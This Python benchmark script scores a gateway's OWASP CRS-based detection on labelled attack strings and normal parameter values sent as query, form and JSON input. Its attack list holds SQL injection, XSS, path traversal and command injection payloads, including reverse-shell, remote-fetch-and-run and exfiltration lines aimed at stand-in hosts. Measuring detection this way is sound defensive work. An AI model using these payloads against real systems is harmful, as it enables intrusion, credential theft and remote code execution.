"""Detection at the parameter level: labelled attack values and normal values, each sent as a query
parameter, a form field and a JSON string, scored with the repo's config.yaml (CRS on) as an established
trusted caller; with CRS's libinjection rules (942100, 941100) and without them.

The attack values are ours: the classic forms of SQL injection, XSS, command injection and path traversal
(each as written, URL-encoded, and after a plausible value), written from the families the CRS and OWASP
cheat sheets describe. The normal values are the CSIC 2010 development corpus's normal parameter values
and everyday values (names with apostrophes, addresses, prose, URLs, dates).

Usage: python bench/params.py [CSIC.jsonl.gz]
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from pathlib import Path
from urllib.parse import parse_qsl, quote, quote_plus

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from detection import CALLER, HISTORY, ROUTE, read  # noqa: E402

from policy.config import Config  # noqa: E402
from policy.crs import crs_factor  # noqa: E402
from policy.incoming import Incoming  # noqa: E402
from policy.risk import Factor, RiskInput, score  # noqa: E402
from proxy.crs import load_crs  # noqa: E402
from proxy.loader import create_config  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = {
    "sql": [
        "' or '1'='1", "' or 1=1--", "1 or 1=1", "' union select null,username,password from users--",
        "1; drop table users--", "1' and sleep(5)--", "' and extractvalue(1,concat(0x7e,version()))--",
        "admin'--", "1' order by 3--", "' having 1=1--", "1 and 1=convert(int,@@version)", "')) or (('a'='a",
        "1' waitfor delay '0:0:5'--",
        "-1 union all select 1,2,group_concat(table_name) from information_schema.tables",
        "1' and (select count(*) from users)>0--", '" or ""="', "1' or 'x'='x",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "' OR EXISTS(SELECT * FROM users WHERE name='admin')--",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "1'||(select 1 from dual)||'",
        "1/**/union/**/select/**/1,2", "' or true--", "1' rlike (select 1)--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        '"><script>alert(document.cookie)</script>', "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>", "'><img src=1 onerror=prompt(1)>", '<a href="javascript:alert(1)">x</a>',
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>", "<math><mtext></p><script>alert(1)</script>",
        '" onmouseover="alert(1)', "<ScRiPt>alert(1)</sCrIpT>", '<object data="javascript:alert(1)">',
        "<marquee onstart=alert(1)>", '<div style="background:url(javascript:alert(1))">',
        "<script src=//evil.example/x.js></script>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    ],
    "command": [
        "; cat /etc/passwd", "| id", "&& whoami", "$(whoami)", "`id`", "; ls -la /",
        "| nc attacker.example 4444 -e /bin/sh", "; wget http://evil.example/x -O /tmp/x",
        "& ping -c 10 127.0.0.1 &", "; sleep 10", "|| uname -a", "; curl http://evil.example/$(whoami)",
        "a;/bin/bash -c 'id'", "() { :; }; /bin/bash -c id", "; powershell -enc SQBFAFgA", "& dir c:\\",
        "| type c:\\windows\\win.ini", "; echo hacked > /var/www/x", "$(curl -s evil.example|sh)",
        ";${IFS}cat${IFS}/etc/passwd",
    ],
    "traversal": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "/etc/shadow",
        "../../../../proc/self/environ", "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd",
        "/var/www/../../etc/passwd%00.jpg", "....\\\\....\\\\boot.ini", "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    ],
}  # fmt: skip
EVERYDAY = [
    "O'Brien", "Mc'Morral Obrist", "rock 'n' roll", "Tom & Jerry", "C:/Users/files", "user@example.com",
    "https://example.com/a?b=c&d=e", "2024-05-01T10:00:00Z", "Camino Hoya Mondongo, 124", "select a size",
    "drop me a line", "I'll be there; catalog 2", "what's 1 or 2 = ?", "1+1=2", "50% off -- today only!",
    "She said \"hi\" (twice); then left.", "a < b and c > d", "#hashtag @mention", "(555) 010-9999",
    "¿Dónde está la estación?", "Привет, как дела?", "東京都渋谷区", "naïve café résumé",
]  # fmt: skip


def attacks() -> list[tuple[str, str]]:
    """(family, value): each attack as written, URL-encoded, and after a plausible value."""
    out = []
    for family, values in ATTACKS.items():
        for value in values:
            out += [(family, value), (family, quote(value, safe="")), (family, f"42{value}")]
    return out


def normals(corpus: Path | None) -> list[str]:
    values = list(EVERYDAY)
    if corpus is not None:
        seen: set[str] = set()
        for record in read(corpus):
            if record.get("expect_attack"):
                continue
            query = record["uri"].partition("?")[2]
            for _, value in parse_qsl(query) + parse_qsl(record.get("body") or ""):
                if value not in seen:
                    seen.add(value)
                    values.append(value)
    return values


def sent(value: str, how: str) -> Incoming:
    if how == "query":
        return Incoming("GET", "/p", f"/p?q={quote_plus(value)}", (), (), b"", "192.0.2.1")
    if how == "form":
        ctype, body = "application/x-www-form-urlencoded", f"q={quote_plus(value)}".encode()
    else:
        ctype, body = "application/json", json.dumps({"q": value}).encode()
    return Incoming("POST", "/p", "/p", (), (("content-type", ctype),), body, "192.0.2.1")


def detected(value: str, how: str, config: Config, plugins: dict[str, Factor]) -> tuple[bool, bool]:
    """(the gateway's score reaches the low threshold, the CRS factor alone fires)."""
    inp = RiskInput(sent(value, how), CALLER, HISTORY, ROUTE, config.risk.max_scan_bytes)
    result = score(inp, config, plugins)
    return result.total >= config.hybrid.risk_thresholds.low, result.fired("crs")


def main() -> None:
    corpus = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    env = {"SECRET_KEY": "x" * 32}
    with_libinjection = create_config(path=ROOT / "config.yaml", env=env)
    exclude = [{"rules": [941310]}, {"rules": [942100, 941100]}]  # config.yaml's, and libinjection's rules
    without = create_config({"risk": {"exclude": exclude}}, path=ROOT / "config.yaml", env=env)
    configs = {"with libinjection": with_libinjection, "without": without}
    plugins = {"crs": crs_factor(load_crs(with_libinjection.risk.crs, ROOT)[0])}
    bad, good = attacks(), normals(corpus)
    print(f"{len(bad)} attack values, {len(good)} normal values\n")
    print("| CRS rules | sent as | attacks caught | by family | CRS factor alone | normal flagged (CRS) |")
    print("|---|---|---|---|---|---|")
    for name, config in configs.items():
        for how in ("query", "form", "json"):
            on_bad = [(family, detected(value, how, config, plugins)) for family, value in bad]
            caught = Counter(family for family, (hit, _) in on_bad if hit)
            by_crs = sum(crs for _, (_, crs) in on_bad)
            on_good = [detected(value, how, config, plugins) for value in good]
            flagged, crs_flagged = sum(hit for hit, _ in on_good), sum(crs for _, crs in on_good)
            families = ", ".join(f"{f} {caught[f]}/{3 * len(v)}" for f, v in ATTACKS.items())
            print(
                f"| {name} | {how} | {sum(caught.values()) / len(bad):.1%} | {families} |"
                f" {by_crs / len(bad):.1%} | {flagged / len(good):.2%} ({flagged}; CRS {crs_flagged}) |"
            )


if __name__ == "__main__":
    main()
